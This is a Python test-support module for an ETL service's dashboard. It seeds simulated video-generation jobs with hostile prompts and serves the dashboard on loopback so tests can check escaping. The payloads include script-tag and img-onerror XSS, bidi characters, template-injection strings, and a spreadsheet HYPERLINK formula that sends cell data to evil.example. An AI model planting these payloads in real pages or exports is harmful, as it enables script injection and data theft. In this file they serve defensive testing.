"""A small world behind a simulated gateway, mirrored by the product, its dashboard served on loopback."""

from __future__ import annotations

import html
import json
import re
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, NamedTuple

from etl.app import App
from etl.config import Config, DatabaseConfig, Secret, SecretUrl, ServiceConfig, Source
from etl.simulator import World
from etl.web.app import build_app
from etl.web.cache import Cache
from etl.web.dashboard.routes import dashboard_routes
from etl.web.dashboard.table_specs import TABLE_SPECS
from etl.web.metrics import Metrics
from etl.web.server import WebServer
from etl.web.state import ServiceState
from tests.support.rig import Rig, rig

TABLES = [name for name in TABLE_SPECS if name not in ("jobs", "tree")]
TOKEN = "canary-0f5e7712aa"
#: What a stranger may write into a prompt.
HOSTILE = {
    "script": "<script>window.pwned = 1</script>",
    "image": '"><img id="pwned" src="x" onerror="window.pwned = 1">',
    "bidi": "safe \u202egpj.exe\u2066 \u200f \u2028 end",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "large": "word " * 20_000,
    "template": "{{ 7 * 7 }} {% include 'base.html' %} ${7*7} javascript:alert(1)",
}


class Answer(NamedTuple):
    status: int
    text: str
    headers: Any

    @property
    def json(self) -> Any:
        return json.loads(self.text)


def show_all(page: Any) -> None:
    """Bring into view what is loaded only then, and wait until it is there."""
    for part in page.locator("[data-later]").all():
        part.scroll_into_view_if_needed()
    page.wait_for_function("document.querySelector('[data-later]:not([aria-busy=false])') === null")


class Site:
    """`app`, `clock` and `limits` may be replaced while it runs."""

    def __init__(self, app: App, clock: Any = None, **service: Any) -> None:
        self.app, self.limits = app, {source.name: 900.0 for source in app.config.sources}
        more = {} if clock is None else {"clock": clock}
        state = ServiceState(
            app=lambda: self.app,
            service=ServiceConfig(**service),
            metrics=Metrics(),
            alive=lambda: True,
            limits=lambda: self.limits,
            cache=Cache(least=0.0, times=0.0),
            **more,
        )
        self.server = WebServer(build_app(state, dashboard_routes()), "127.0.0.1", 0)

    @property
    def url(self) -> str:
        return self.server.url

    def get(self, path: str, **headers: str) -> Answer:
        request = urllib.request.Request(self.url + path, headers=headers)
        try:
            with _opener.open(request, timeout=60) as answer:
                return Answer(answer.status, answer.read().decode(), answer.headers)
        except urllib.error.HTTPError as error:
            with error:
                return Answer(error.code, error.read().decode(), error.headers)


class _Stay(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: Any) -> None:
        """Redirects are looked at, not followed."""


_opener = urllib.request.build_opener(_Stay)


@contextmanager
def small_world(folder: Path) -> Iterator[tuple[Rig, Site, dict[str, str]]]:
    """Five days of jobs, some stuck, some hostile; the ids of the hostile ones by name."""
    world = World(seed=18, jobs=240, gap=1800.0, rate=120.0, stuck=0.03, failures=0.15)
    with rig(world, f"sqlite:///{folder / 'etl.db'}") as made:
        ids = {name: world.add(**_hostile(made.now(), prompt)) for name, prompt in HOSTILE.items()}
        ids["failed"] = world.add(
            **_hostile(made.now(), "fails")
            | {"status": "failed", "error": {"code": '"><b id=pwned>', "message": HOSTILE["image"]}}
        )
        ids["model"] = world.add(**_hostile(made.now(), "odd model") | {"model": '<i id="pwned">@SUM(1)'})
        world.set("rejected", b'{"id": 1.5, "prompt": "' + HOSTILE["script"].encode() + b'"}')
        made.ok()
        site = Site(made.app, made.now)
        with site.server:
            yield made, site, ids


def _hostile(now: datetime, prompt: str) -> dict[str, Any]:
    moment = int(now.timestamp()) - 600
    return {
        "object": "video",
        "model": "sora-2",
        "status": "completed",
        "progress": 100,
        "created_at": moment,
        "completed_at": moment + 60,
        "size": "1280x720",
        "seconds": "8",
        "prompt": prompt,
    }


def unreachable() -> App:
    """An application whose database does not answer."""
    url = SecretUrl(f"postgresql://etl:{TOKEN}@127.0.0.1:1/etl")
    return App(
        Config(sources=(Source(name="main", base_url="http://gateway"),), database=DatabaseConfig(url=url))
    )


def empty(folder: Path) -> App:
    """An application whose database is not there yet."""
    database = DatabaseConfig(url=SecretUrl(f"sqlite:///{folder / 'empty.db'}"))
    return App(Config(sources=(Source(name="main", base_url="http://gateway"),), database=database))


def known(made: Rig, job: dict[str, Any]) -> dict[str, Any]:
    """A stored job with its age in `hours`, and the seconds that it `took`."""
    ended = job["completed_at"] or job["created_at"]
    age, took = made.now() - job["created_at"], ended - job["created_at"]
    return job | {"hours": age / timedelta(hours=1), "took": took.total_seconds()}


def text(page: str) -> str:
    """What a page says, without its frame."""
    return html.unescape(re.sub(r"<[^>]*>", " ", page.partition("<main")[2]))


def secret() -> Secret:
    return Secret(TOKEN)
